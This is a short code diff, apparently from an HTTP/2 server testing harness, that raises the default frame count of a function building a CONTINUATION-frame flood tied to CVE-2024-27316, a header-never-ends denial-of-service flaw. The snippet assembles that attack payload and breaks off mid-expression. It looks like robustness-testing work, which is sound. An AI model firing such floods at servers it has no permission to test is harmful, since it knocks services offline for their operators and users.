@@ -223,8 +223,9 @@ def header_references(target, soak, megabytes=2):
 
 
 @contextlib.contextmanager
-def continuation_flood(target, soak, count=20_000):
+def continuation_flood(target, soak, count=None):
     """Headers that never end (CVE-2024-27316 and its kin): some empty, some not."""
+    count = count or (100_000 if soak else 20_000)
     first = wire.frame(wire.HEADERS, 0, 1, wire.request_headers(TOKENIZE))
     floods = (first + count * wire.frame(wire.CONTINUATION, 0, 1),
               first + count * wire.frame(wire.CONTINUATION, 0, 1,
